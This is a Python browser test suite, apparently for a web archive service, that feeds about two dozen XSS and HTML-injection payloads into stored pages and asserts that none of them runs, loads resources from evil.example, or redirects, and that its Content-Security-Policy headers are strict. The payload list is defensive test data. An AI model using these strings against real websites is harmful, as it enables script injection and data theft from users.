"""The pages show what strangers wrote, and none of it runs, loads, submits or leads anywhere: tried in a real browser."""

import base64
import json
from collections.abc import Iterator
from html import escape
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser

from tests.service.browser import Trap, Watched, browser, needs_browser, trap
from tests.service.web_helpers import Site, serving

__all__ = ["browser", "trap"]  # fixtures
pytestmark = needs_browser

OUT = "https://evil.example/x"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    '"><script src=https://evil.example/x></script>',
    "<img src=https://evil.example/x onerror=window.pwned=1>",
    "'\"><svg/onload=window.pwned=1>",
    '" autofocus onfocus=window.pwned=1 x="',
    "' onpointerover=window.pwned=1 '",
    "</title><script>window.pwned=1</script>",
    "</textarea></style></script><script>window.pwned=1</script>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<iframe src=https://evil.example/x></iframe>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/x'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x><link rel=preconnect href=https://evil.example>",
    "<form action=https://evil.example/x><button autofocus>x</button></form>",
    "<style>@import 'https://evil.example/x';body{background:url(https://evil.example/x)}</style>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video autoplay onloadstart=window.pwned=1 src=https://evil.example/x></video>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "\u202egnp.exe\u2066\u0085\u2028window.pwned=1",
    "--><!--><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
)


def body(payload: str) -> str:
    quoted = escape(payload, quote=True)
    state = json.dumps({"@type": "Article", "headline": payload, "author": payload, "articleBody": payload * 3})
    return (
        f'<!doctype html><html><head><title>{quoted}</title><meta name=author content="{quoted}">'
        f'<meta property=og:site_name content="{quoted}"><meta name=description content="{quoted}">'
        f"<script type=application/ld+json>{state}</script></head>"
        f"<body onload=window.pwned=1><h1>{quoted}</h1><p class=byline>By {quoted}</p>"
        f'<p title="{quoted}" id="{quoted}">The ferry stayed at its pier. {quoted}</p>{payload}'
        f'<div class="cookie-banner {quoted}"><p>We use cookies. {quoted}</p></div></body></html>'
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with serving(tmp_path_factory.mktemp("web")) as site:
        rows = []
        for n, payload in enumerate(PAYLOADS):
            rows.append(
                {
                    "url": f"https://h{n}.example/?q={quote(payload)}",
                    "id": "".join(c for c in payload if c.isprintable()) + str(n),
                    "html": body(payload),
                    "meta": {payload[:60]: payload, "list": [payload]},
                    "content_type": "text/html; " + "".join(c for c in payload if c.isprintable())[:200],
                }
            )
            rows.append({"url": f"https://t{n}.example/", "text": f"{payload}\n\nThe ferry stayed at its pier."})
            rows.append(
                {"url": f"https://b{n}.example/", "html_base64": base64.b64encode(body(payload).encode("utf-16")).decode()}
            )
        for n, host in enumerate(("<script>window.pwned=1<", '"onx=1', "'><img", "a%22b", "{{7*7}}")):
            rows.append({"url": f"https://{host}.example{n}/", "text": "The ferry stayed."})
        lines = [
            json.loads(line) for line in site.send(b"\n".join(json.dumps(row).encode() for row in rows)).text.splitlines()
        ]
        assert sum("page_id" in line for line in lines) >= 3 * len(PAYLOADS), "most of it is taken, as from any site"
        site.work()
        site.store.change_rule("navigation", enabled=False, host=PAYLOADS[0], by=PAYLOADS[2], note=PAYLOADS[3])
        site.store.rollup()
        yield site


@pytest.fixture
def seen(site: Site, browser: Browser, trap: Trap) -> Iterator[Watched]:
    context = browser.new_context()
    watched = Watched(context, site.url)
    yield watched
    watched.page.wait_for_timeout(200)
    context.close()
    assert trap.caught == 0, "something was sent to another host"


def harmless(watched: Watched) -> None:
    page = watched.page
    for frame in page.frames:
        if frame.parent_frame is None:
            assert frame.evaluate("window.pwned") is None
    # our pages are escaped, so that the policy has nothing to refuse in them
    assert [text for text in watched.said if "ontent Security Policy" in text or "dialog" in text] == []
    assert page.url.startswith(watched.base)
    assert "49" not in page.locator("h1").first.inner_text()


def rows_of(site: Site, kind: str) -> list[dict[str, Any]]:
    found = site.http.get("/v1/pages", params={"limit": 1000}).json()["rows"]
    return [row for row in found if row["url"].startswith(f"https://{kind}")]


@pytest.mark.parametrize(("kind", "every"), [("h", 1), ("t", 4), ("b", 4)])
def test_no_page_view_and_no_original_runs_or_loads_anything(site: Site, seen: Watched, kind: str, every: int) -> None:
    rows = rows_of(site, kind)[::every]
    assert len(rows) >= len(PAYLOADS) // every
    for row in rows:
        page = seen.open(f"/pages/{row['page_id']}?revision={row['id']}")
        for drop in page.locator("#source [data-note]").all()[:2]:
            drop.focus()
        assert page.locator("main a[href^='javascript:'], main script, main object, main form[action^=http]").count() == 0
        page.click("#original summary")
        frame = page.frame_locator("#original iframe")
        frame.locator("body").wait_for(state="attached")
        assert frame.locator("script, iframe, object, embed, base, link, meta[http-equiv]").count() == 0
        assert frame.locator("[src], [href], [srcset], [data], [action], [onerror], [onload], body style").count() == 0
        harmless(seen)


def test_no_original_runs_in_a_window_of_its_own(site: Site, seen: Watched) -> None:
    for row in rows_of(site, "h")[::2]:
        answer = seen.page.goto(f"{site.url}/original/{row['id']}")
        assert answer is not None and answer.status == 200
        assert seen.page.evaluate("[window.pwned, window.origin]") == [None, "null"]


def test_no_listing_runs_anything(site: Site, seen: Watched) -> None:
    for path in ("/", "/hosts", "/hosts?order=name&start=50", "/pages", f"/pages?host={quote(PAYLOADS[3])}"):
        page = seen.open(path)
        if path == "/":
            page.wait_for_selector("html[data-drawn]")
        harmless(seen)
    for payload in PAYLOADS:
        seen.open(f"/hosts?search={quote(payload)}")
        harmless(seen)
    for payload in PAYLOADS[::5]:
        seen.open(f"/signin?next={quote(payload)}")
        harmless(seen)
        seen.open(f"/hosts/{quote(payload, safe='')}")
        harmless(seen)


def test_the_trap_catches(browser: Browser) -> None:
    """Without it, the others could not fail."""
    trap = Trap()
    context = browser.new_context()
    page = context.new_page()
    page.set_content(f"<img src=http://127.0.0.1:{trap.port}/x>")
    page.wait_for_timeout(300)
    context.close()
    trap.close()
    assert trap.caught


@pytest.mark.parametrize("path", ["/", "/hosts", "/pages", "/signin", "/hosts/none.example", "/pages/zz"])
def test_the_policy_allows_no_script_but_ours(site: Site, path: str) -> None:
    policy = httpx.get(site.url + path, headers={"Accept": "text/html"}).headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src 'self'" in policy and "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy and "base-uri 'none'" in policy


def test_the_originals_policy_allows_nothing(site: Site) -> None:
    revision = site.http.get("/v1/pages", params={"limit": 1}).json()["rows"][0]["id"]
    policy = httpx.get(f"{site.url}/original/{revision}").headers["Content-Security-Policy"]
    assert policy.startswith("sandbox; default-src 'none'") and "allow-" not in policy and "script-src" not in policy
